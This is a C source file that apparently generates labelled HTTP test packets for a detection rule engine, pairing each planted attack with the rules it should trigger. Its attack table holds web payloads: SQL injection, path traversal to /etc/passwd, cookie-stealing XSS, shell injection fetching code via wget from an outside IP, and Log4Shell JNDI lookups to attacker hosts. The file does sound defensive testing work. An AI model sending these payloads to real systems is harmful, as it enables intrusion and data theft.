/*
 * http.c - HTTP-like packet payloads with planted attacks (see http.h).
 */
#include "corpora/http.h"

#include "corpora/rules.h"

#include <stdarg.h>
#include <stdio.h>
#include <string.h>

#define ARRAY_LEN(a) (sizeof(a) / sizeof((a)[0]))
#define M(rule) (1u << (RULE_##rule))

/* Where an attack goes in the request. */
enum where {
	AT_METHOD, /* replaces the method */
	AT_TARGET, /* replaces the request target */
	AT_HEADER, /* a whole header line after Host */
	AT_UA,     /* the User-Agent value */
	AT_BODY,   /* the start of the body */
};

/* Each with the exact set of built-in rules it triggers where it goes. */
static const struct attack {
	const char *text;
	enum where where;
	uint32_t mask;
} attacks[] = {
	{"TRACE", AT_METHOD, M(BAD_METHOD)},
	{"PROPFIND", AT_METHOD, M(BAD_METHOD)},
	{"DEBUG", AT_METHOD, M(BAD_METHOD)},
	{"/index.php%00.jpg", AT_TARGET, M(ENCODED_REQLINE)},
	{"/a%0d%0aSet-Cookie:x=1", AT_TARGET, M(ENCODED_REQLINE)},
	{"/static/../../../etc/passwd", AT_TARGET,
	 M(PATH_TRAVERSAL) | M(SENSITIVE_FILE)},
	{"/download?file=..%2f..%2fapp.ini", AT_TARGET, M(PATH_TRAVERSAL)},
	{"/files/%2e%2e/%2e%2e/data", AT_TARGET,
	 M(PATH_TRAVERSAL) | M(ENCODED_REQLINE)},
	{"/item?id=1+UNION+ALL+SELECT+name,pass+FROM+users", AT_TARGET,
	 M(SQLI_UNION)},
	{"/list?cat=2%20union%20select%20null,version()", AT_TARGET,
	 M(SQLI_UNION)},
	{"q=1+union/**/select+password+from+accounts", AT_BODY, M(SQLI_UNION)},
	{"/login?user=admin'+OR+'1'='1", AT_TARGET, M(SQLI_TAUTOLOGY)},
	{"/product?id=7'+and+1=1", AT_TARGET, M(SQLI_TAUTOLOGY)},
	{"/search?q=<script>alert(1)</script>", AT_TARGET, M(XSS)},
	{"comment=<img src=x onerror=alert(document.cookie)>", AT_BODY, M(XSS)},
	{"/go?url=javascript:alert(1)", AT_TARGET, M(XSS)},
	{"/ping?host=127.0.0.1;cat+/etc/passwd", AT_TARGET,
	 M(SHELL_INJECTION) | M(SENSITIVE_FILE)},
	{"/cgi-bin/status?c=1|+wget+http://203.0.113.9/x", AT_TARGET,
	 M(SHELL_INJECTION)},
	{"name=x;+uname+-a", AT_BODY, M(SHELL_INJECTION)},
	{"sqlmap/1.7.2#stable (https://sqlmap.org)", AT_UA, M(SCANNER_UA)},
	{"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)", AT_UA, M(SCANNER_UA)},
	{"masscan/1.3", AT_UA, M(SCANNER_UA)},
	{"X-Api-Version: ${jndi:ldap://198.51.100.7:1389/a}", AT_HEADER,
	 M(LOG4SHELL)},
	{"${jndi:dns://attacker.example/x}", AT_UA, M(LOG4SHELL)},
	{"/.git/config", AT_TARGET, M(SENSITIVE_FILE)},
	{"/admin/.htaccess", AT_TARGET, M(SENSITIVE_FILE)},
	{"/view?page=/proc/self/environ", AT_TARGET, M(SENSITIVE_FILE)},
	{"/wp-config.php.bak", AT_TARGET, M(SENSITIVE_FILE)},
};

/* The benign vocabulary: none of it matches a built-in rule. */
static const char *const methods[] = {"GET", "GET", "GET", "GET", "POST",
				      "POST", "PUT", "HEAD", "DELETE", "OPTIONS"};
static const char *const targets[] = {
	"/", "/index.html", "/api/v1/items", "/api/v1/items/4821",
	"/static/js/app.js", "/static/css/site.css", "/images/logo.png",
	"/search?q=red+shoes&page=2", "/products?category=books&sort=price",
	"/account/settings", "/login", "/cart/add?sku=AB-1234&qty=1",
	"/news/2024/05/spring-sale", "/favicon.ico", "/api/v2/users/me",
	"/search?q=blue%20jacket",
};
static const char *const hosts[] = {"www.example.com", "shop.example.org",
				    "api.example.net", "cdn.example.com"};
static const char *const agents[] = {
	"Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
	"(KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) AppleWebKit/605.1.15 "
	"(KHTML, like Gecko) Version/17.2 Safari/605.1.15",
	"curl/8.5.0",
	"python-requests/2.31.0",
};
static const char *const headers[] = {
	"Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
	"Accept: application/json",
	"Accept-Language: en-US,en;q=0.5",
	"Accept-Encoding: gzip, deflate, br",
	"Connection: keep-alive",
	"Referer: https://www.example.com/search?q=shoes",
	"Content-Type: application/x-www-form-urlencoded",
	"Cache-Control: no-cache",
};
static const char *const keys[] = {"name", "email", "city", "qty", "note",
				   "color", "size", "page", "token", "lang"};
static const char *const values[] = {"alice", "bob", "paris", "42",
				     "hello+world", "blue", "xl", "7",
				     "a1b2c3d4", "alice%40example.com", "en"};

/* Bytes written into out[0..size); `at` keeps counting past the end. */
struct sb {
	char *out;
	size_t size;
	size_t at;
};

static void put(struct sb *b, const char *s)
{
	size_t n = strlen(s);

	if (b->at < b->size)
		memcpy(b->out + b->at, s, n < b->size - b->at ? n : b->size - b->at);
	b->at += n;
}

static const char *pick(struct rng *r, const char *const *list, size_t n)
{
	return list[rng_below(r, n)];
}

#define PICK(r, list) pick((r), (list), ARRAY_LEN(list))

/* The attack text if it goes at `w`, else NULL. */
static const char *at(const struct attack *a, enum where w)
{
	return a != NULL && a->where == w ? a->text : NULL;
}

/*
 * The head's lines, each with its CRLF: the request line and Host first,
 * then the optional ones, which a small packet drops from the last on.
 */
#define HEAD_LINES 12
#define LINE_MAX 512

struct head {
	char line[HEAD_LINES][LINE_MAX];
	size_t n;
	size_t attack_line; /* the line holding the attack, or HEAD_LINES */
	size_t attack_end;  /* the attack's end within it */
};

__attribute__((format(printf, 2, 3)))
static void head_add(struct head *h, const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	vsnprintf(h->line[h->n++], LINE_MAX, fmt, ap);
	va_end(ap);
}

/* Mark the line added last as the attack's, ending before `tail` bytes. */
static void head_attack(struct head *h, size_t tail)
{
	h->attack_line = h->n - 1;
	h->attack_end = strlen(h->line[h->n - 1]) - tail;
}

/* Request line and headers, with a's text in its place. */
static void http_head(struct rng *r, struct head *h, const struct attack *a)
{
	const char *m = at(a, AT_METHOD), *t = at(a, AT_TARGET),
		   *ua = at(a, AT_UA);

	h->n = 0;
	h->attack_line = HEAD_LINES;
	/* a method attack ends after its space: the rule needs it */
	head_add(h, "%s %s HTTP/1.1\r\n", m ? m : PICK(r, methods),
		 t ? t : PICK(r, targets));
	if (m != NULL) {
		h->attack_line = 0;
		h->attack_end = strlen(m) + 1;
	}
	if (t != NULL)
		head_attack(h, strlen(" HTTP/1.1\r\n"));
	head_add(h, "Host: %s\r\n", PICK(r, hosts));
	if (at(a, AT_HEADER) != NULL) {
		head_add(h, "%s\r\n", a->text);
		head_attack(h, 2);
	}
	head_add(h, "User-Agent: %s\r\n", ua ? ua : PICK(r, agents));
	if (ua != NULL)
		head_attack(h, 2);
	for (size_t i = 0, k = 2 + rng_below(r, 4); i < k; i++)
		head_add(h, "%s\r\n", PICK(r, headers));
	head_add(h, "Cookie: session=%016llx; theme=dark\r\n",
		 (unsigned long long)rng_next(r));
}

/* Body: a's text first when it goes there, then form pairs to the end. */
static void http_body(struct rng *r, struct sb *b, const struct attack *a,
		      size_t *end)
{
	if (at(a, AT_BODY) != NULL) {
		put(b, a->text);
		*end = b->at;
		put(b, "&");
	}
	while (b->at < b->size) {
		put(b, PICK(r, keys));
		put(b, "=");
		put(b, PICK(r, values));
		put(b, "&");
	}
}

static size_t digits(size_t n)
{
	size_t d = 1;

	while (n >= 10) {
		n /= 10;
		d++;
	}
	return d;
}

/*
 * The body length that makes the head's first `lines` lines, a
 * Content-Length line and the empty line fill exactly `size` bytes with
 * the body; or -1 when they do not fit.
 */
static long body_room(const struct head *h, size_t lines, size_t size)
{
	size_t n = 0;

	for (size_t i = 0; i < lines; i++)
		n += strlen(h->line[i]);
	n += strlen("Content-Length: \r\n\r\n");
	for (size_t d = 1; d <= 5; d++)
		if (n + d <= size && digits(size - n - d) == d)
			return (long)(size - n - d);
	return -1;
}

/*
 * Lay the head's first `lines` lines out in b, cut at b->size (whole:
 * with Content-Length and the empty line, and `body` bytes of body);
 * *end: where the attack ends.
 */
static void http_lay(struct rng *r, struct sb *b, const struct head *h,
		     size_t lines, long body, const struct attack *a,
		     size_t *end)
{
	char len[48];

	for (size_t i = 0; i < lines; i++) {
		if (i == h->attack_line)
			*end = b->at + h->attack_end;
		put(b, h->line[i]);
	}
	snprintf(len, sizeof(len), "Content-Length: %zu\r\n\r\n",
		 body >= 0 ? (size_t)body : b->size > b->at ? b->size - b->at : 0);
	put(b, len);
	http_body(r, b, a, end);
}

/*
 * Build one packet with attack a (or none): a whole request when its
 * head fits, dropping optional headers (never the attack's) from the
 * last on; with `cut`, the whole head cut at the size instead.  1 when
 * a ends within size.
 */
static int http_build(struct rng *r, char *out, size_t size,
		      const struct attack *a, int cut)
{
	struct sb b = {out, size, 0};
	struct head h;
	size_t end = 0, lines;
	long body = -1;

	http_head(r, &h, a);
	for (lines = h.n; !cut && lines >= 2; lines--) {
		body = body_room(&h, lines, size);
		if (body >= 0 || lines - 1 == h.attack_line)
			break;
	}
	if (!cut && body < 0)
		return 0;
	http_lay(r, &b, &h, cut ? h.n : lines, cut ? -1 : body, a, &end);
	return a == NULL || (end > 0 && end <= size);
}

uint32_t http_packet(struct rng *r, char *out, size_t size, int attack)
{
	size_t first = rng_below(r, ARRAY_LEN(attacks));

	/* whole requests first, then a cut one for a packet too small */
	for (int cut = 0; cut < 2; cut++) {
		for (size_t k = 0; attack && k < ARRAY_LEN(attacks); k++) {
			const struct attack *a =
				&attacks[(first + k) % ARRAY_LEN(attacks)];
			if (http_build(r, out, size, a, cut))
				return a->mask;
		}
		for (int tries = 0; !attack && !cut && tries < 8; tries++)
			if (http_build(r, out, size, NULL, 0))
				return 0;
	}
	http_build(r, out, size, NULL, 1);
	return 0;
}

size_t http_attack_count(void)
{
	return ARRAY_LEN(attacks);
}

const char *http_attack_text(size_t i)
{
	return i < ARRAY_LEN(attacks) ? attacks[i].text : NULL;
}
